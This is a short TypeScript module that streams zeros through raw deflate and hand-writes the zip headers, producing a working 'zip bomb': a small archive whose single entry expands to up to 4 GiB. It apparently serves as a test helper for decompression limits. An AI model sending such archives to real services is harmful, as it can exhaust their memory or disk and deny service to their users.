/** A zip bomb made without holding its expansion: one entry of `size` zero bytes, deflated as a stream. */
import { crc32, createDeflateRaw } from "node:zlib"

const CHUNK = Buffer.alloc(1 << 20)

/** A zip whose single entry `name` expands to `size` zero bytes (a multiple of 1 MiB, below 4 GiB). */
export const zipBomb = async (name: string, size: number): Promise<Buffer> => {
  const deflate = createDeflateRaw({ level: 9 })
  const parts: Array<Buffer> = []
  deflate.on("data", (chunk: Buffer) => parts.push(chunk))
  const finished = new Promise<void>((resolve, reject) => {
    deflate.on("end", resolve)
    deflate.on("error", reject)
  })
  let crc = 0
  for (let written = 0; written < size; written += CHUNK.length) {
    crc = crc32(CHUNK, crc)
    if (!deflate.write(CHUNK)) await new Promise((resolve) => deflate.once("drain", resolve))
  }
  deflate.end()
  await finished
  const data = Buffer.concat(parts)
  const file = Buffer.from(name, "utf8")
  // The fields both headers share, from "version needed" to the name's length (the central one has "made by" first).
  const common = (header: Buffer, at: number) => {
    header.writeUInt16LE(20, at)
    header.writeUInt16LE(8, at + 4)
    header.writeUInt16LE(0x21, at + 8)
    header.writeUInt32LE(crc >>> 0, at + 10)
    header.writeUInt32LE(data.length, at + 14)
    header.writeUInt32LE(size, at + 18)
    header.writeUInt16LE(file.length, at + 22)
    return header
  }
  const local = common(Buffer.alloc(30), 4)
  local.writeUInt32LE(0x04034b50, 0)
  const central = common(Buffer.alloc(46), 6)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(20, 4)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + file.length, 12)
  end.writeUInt32LE(local.length + file.length + data.length, 16)
  return Buffer.concat([local, file, data, central, file, end])
}
